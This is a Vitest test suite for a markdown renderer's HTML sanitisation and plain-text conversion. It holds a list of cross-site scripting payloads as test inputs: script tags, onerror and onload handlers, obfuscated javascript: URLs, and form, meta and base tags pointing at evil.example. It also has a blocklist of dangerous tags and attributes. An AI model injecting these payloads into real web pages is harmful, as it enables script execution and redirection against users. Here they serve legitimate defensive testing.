// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { plainText, renderMarkdown } from '../../../src/lib/markdown/render';

/** Parses rendered HTML the way the app inserts it ({@html}), without running anything. */
function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

const FORBIDDEN_TAGS = [
  'script',
  'iframe',
  'frame',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'img',
  'style',
  'link',
  'meta',
  'base',
  'video',
  'audio',
];

/** Every way a piece of markup could run code, that a sanitizer must have removed. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const el of parse(html).querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      // Browsers ignore whitespace and control characters inside a URL scheme.
      const value = [...attr.value]
        .filter((c) => c.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (name === 'style') found.push(`${tag}[style]`);
      if (/^(javascript|vbscript|data):/.test(value)) found.push(`${tag}[${name}=${value}]`);
    }
  }
  return found;
}

describe('renderMarkdown', () => {
  it('renders headings, emphasis, lists, code and quotes', () => {
    const html = renderMarkdown(
      '# Title\n\nSome *soft* and **strong** text.\n\n- one\n- two\n\n> quoted\n\n`code`',
    );
    const root = parse(html);
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('em')?.textContent).toBe('soft');
    expect(root.querySelector('strong')?.textContent).toBe('strong');
    expect([...root.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect(root.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
    expect(root.querySelector('code')?.textContent).toBe('code');
  });

  it('turns single line breaks into <br> (a journal is written line by line)', () => {
    expect(parse(renderMarkdown('line one\nline two')).querySelectorAll('br')).toHaveLength(1);
  });

  it('renders GFM task lists and tables, without live checkboxes', () => {
    const root = parse(renderMarkdown('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done'));
    expect(root.querySelector('table td')?.textContent).toBe('1');
    expect(root.querySelector('input')).toBeNull();
  });

  it('opens links in a new tab and tells the other site nothing', () => {
    const root = parse(renderMarkdown('[a site](https://example.org/page) and <https://x.org>'));
    const links = [...root.querySelectorAll('a')];
    expect(links).toHaveLength(2);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(links[0]?.getAttribute('href')).toBe('https://example.org/page');
  });

  it('shows raw HTML as the text it is instead of parsing it', () => {
    const root = parse(renderMarkdown('Some <b>bold</b> words\n\n<div class="x">\nblock\n</div>'));
    expect(root.querySelector('b')).toBeNull();
    expect(root.querySelector('div.x')).toBeNull();
    expect(root.textContent).toContain('Some <b>bold</b> words');
    expect(root.textContent).toContain('<div class="x">');
  });

  it('keeps an escaped link written as HTML from becoming a link', () => {
    const root = parse(renderMarkdown('<a href="https://x.org" target="_self">x</a>'));
    expect(root.querySelector('a')).toBeNull();
  });

  it('shows markup inside code as text', () => {
    const root = parse(renderMarkdown('`<script>alert(1)</script>`'));
    expect(root.querySelector('code')?.textContent).toBe('<script>alert(1)</script>');
    expect(root.querySelector('script')).toBeNull();
  });

  it('drops markdown images, which would fetch from anywhere', () => {
    const root = parse(renderMarkdown('![a cat](https://example.org/cat.png)'));
    expect(root.querySelector('img')).toBeNull();
  });

  it('removes style attributes and style elements', () => {
    const html = renderMarkdown(
      '<p style="background:url(https://x.org/t)">s</p><style>body{display:none}</style>',
    );
    expect(dangers(html)).toEqual([]);
    expect(parse(html).textContent).toContain('s');
  });

  const payloads = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '[click](javascript:alert(1))',
    '[click](javascript&#58;alert(1))',
    '<div onclick="alert(1)">x</div>',
    '<details open ontoggle=alert(1)>',
    '<form action="https://evil.example"><input name=q><button>go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ];

  it.each(payloads)('neutralises %s', (payload) => {
    const html = renderMarkdown(payload);
    expect(dangers(html)).toEqual([]);
    expect(html.toLowerCase()).not.toContain('alert(1)</script');
  });

  it('neutralises the same payloads inside markdown structure', () => {
    const md = payloads.map((p, i) => `${i % 2 ? '-' : '>'} ${p}`).join('\n\n');
    expect(dangers(renderMarkdown(md))).toEqual([]);
  });

  it('leaves nothing that would fetch a remote image', () => {
    const html = renderMarkdown(
      [
        '<svg><image href="https://evil.example/a.png"></image></svg>',
        '<svg><filter><feImage href="https://evil.example/b.png"/></filter></svg>',
        '<table background="https://evil.example/c.png"><tr><td>x</td></tr></table>',
        '![x](https://evil.example/d.png)',
        '<img src="https://evil.example/e.png">',
      ].join('\n\n'),
    );
    for (const el of parse(html).querySelectorAll('*')) {
      for (const attr of el.attributes) expect(attr.value).not.toContain('evil.example');
    }
  });
});

describe('plainText', () => {
  it.each([
    ['# Title', 'Title'],
    ['### Small title', 'Small title'],
    ['**bold** and _it_ and ~~gone~~', 'bold and it and gone'],
    ['> a quote', 'a quote'],
    ['- item\n* item\n+ item\n1. first', 'item item item first'],
    ['[a link](https://x.org)', 'a link'],
    ['![alt text](https://x.org/i.png)', 'alt text'],
    ['before\n```\ncode block\n```\nafter', 'before after'],
    ['`inline` code', 'inline code'],
    ['  lots   of\n\n\nspace  ', 'lots of space'],
    ['', ''],
  ])('turns %j into %j', (md, text) => {
    expect(plainText(md)).toBe(text);
  });

  it('keeps markup characters that are not markdown syntax', () => {
    expect(plainText('5 > 3 and 2 < 4 #hashtag')).toBe('5 > 3 and 2 < 4 #hashtag');
  });
});
